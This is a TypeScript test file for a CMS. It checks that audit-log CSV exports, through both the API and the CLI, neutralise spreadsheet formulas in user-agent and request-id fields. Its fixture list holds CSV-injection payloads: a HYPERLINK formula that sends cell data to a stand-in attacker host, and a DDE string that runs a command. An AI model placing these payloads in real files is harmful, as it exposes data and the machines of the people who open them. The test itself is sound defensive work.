/**
 * S5: a CSV export never hands a spreadsheet a formula. Caller-controlled fields (the user
 * agent, the request id, …) that begin with `=`, `+`, `-`, `@`, tab or CR are written with
 * a leading `'` and quoted (OWASP "CSV injection"), through the API and the CLI alike.
 */
import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { createAuditor } from '../packages/audited/src/audit/auditor.js'
import { csvLine } from '../packages/audited/src/audit/event-export.js'
import { migrate } from '../packages/audited/src/db/migrations.js'
import { type AuditedDatabase, openDatabase } from '../packages/audited/src/db/open-database.js'
import { bootstrap } from '../packages/cms/src/cms/bootstrap.js'
import { CMS_MIGRATIONS } from '../packages/cms/src/cms/schema.js'
import { type App, buildApp } from '../packages/cms/src/server/app.js'
import { BOUNDED } from './child-support.js'
import { DIALECTS, PERSONAL_DATA } from './setup.js'

const exec = promisify(execFile)
const CLI = fileURLToPath(new URL('../packages/cms/src/cli/main.ts', import.meta.url))
const ADMIN = { email: 's5@example.test', password: 'long enough password' }

/** Hostile user agents, one per write. */
const AGENTS = [
  '=HYPERLINK("http://evil.test/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+2',
]
const FORMULA_START = /^[=+\-@\t\r]/

/** RFC 4180 parser: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"'
        i++
      } else if (ch === '"') quoted = false
      else field += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(field)
      field = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      i++
    } else field += ch
  }
  assert.equal(field, '', 'the file ends with CRLF')
  return rows
}

/** Every hostile agent comes back with its leading quote, and no field starts a formula. */
function assertDefused(csv: string): void {
  const [header, ...rows] = parseCsv(csv)
  const agent = header!.indexOf('userAgent')
  const requestId = header!.indexOf('requestId')
  const agents = rows.map((r) => r[agent])
  for (const a of AGENTS) assert.ok(agents.includes(`'${a}`), `${JSON.stringify(a)} is defused`)
  assert.ok(
    rows.some((r) => r[requestId] === "'-s5-request"),
    'the request id is defused too',
  )
  for (const r of rows) {
    assert.equal(r.length, header!.length)
    for (const f of r) assert.doesNotMatch(f, FORMULA_START)
  }
}

for (const d of DIALECTS) {
  describe(`S5: CSV export [${d.name}]`, { skip: d.skip }, () => {
    let drop: () => Promise<void>
    let url: string
    let db: AuditedDatabase
    let app: App
    const dir = mkdtempSync(join(tmpdir(), 'audited-s5-'))
    before(async () => {
      const created = await d.create()
      drop = created.drop
      url = created.url
      db = await openDatabase(url)
      await migrate(db, CMS_MIGRATIONS)
      const auditor = createAuditor({ personalData: PERSONAL_DATA, db })
      await bootstrap(db, auditor, ADMIN)
      app = buildApp({ db, auditor })
      await app.ready()
      const login = await app.inject({ method: 'POST', url: '/api/v1/auth/login', payload: ADMIN })
      const token = JSON.parse(login.body).token as string
      for (const [i, agent] of AGENTS.entries()) {
        const res = await app.inject({
          method: 'POST',
          url: '/api/v1/users',
          headers: {
            authorization: `Bearer ${token}`,
            'user-agent': agent,
            ...(i === 0 ? { 'x-request-id': '-s5-request' } : {}),
          },
          payload: { email: `s5-${i}@example.test`, password: 'long enough password', role: 'viewer' },
        })
        assert.equal(res.statusCode, 201, res.body)
      }
      ;(app as App & { s5Token?: string }).s5Token = token
    })
    after(async () => {
      await app?.close()
      await db?.close()
      await drop?.()
      rmSync(dir, { recursive: true, force: true })
    })

    it('S5: GET /api/v1/audit/export?format=csv defuses hostile user agents', async () => {
      const token = (app as App & { s5Token?: string }).s5Token
      const res = await app.inject({
        method: 'GET',
        url: '/api/v1/audit/export?format=csv',
        headers: { authorization: `Bearer ${token}` },
      })
      assert.equal(res.statusCode, 200)
      assertDefused(res.body)
    })

    it('S5: the CLI export defuses them the same way', async () => {
      const out = join(dir, 'events.csv')
      await exec(
        process.execPath,
        ['--conditions=audited-dev', '--import', 'tsx', CLI, 'export', '--format', 'csv', '--out', out],
        {
          env: { ...process.env, DATABASE_URL: url, LOG_LEVEL: 'silent' },
          ...BOUNDED,
        },
      )
      assertDefused(readFileSync(out, 'utf8'))
    })
  })
}

describe('S5: csvLine', () => {
  it('S5: quotes and prefixes exactly the fields a spreadsheet would evaluate', () => {
    assert.equal(csvLine(['=1', '+1', '-1', '@x', '\tx', '\rx']), `"'=1","'+1","'-1","'@x","'\tx","'\rx"\r\n`)
    assert.equal(csvLine(['plain', 'a,b', 'say "hi"', '1-2', '']), 'plain,"a,b","say ""hi""",1-2,\r\n')
  })
})
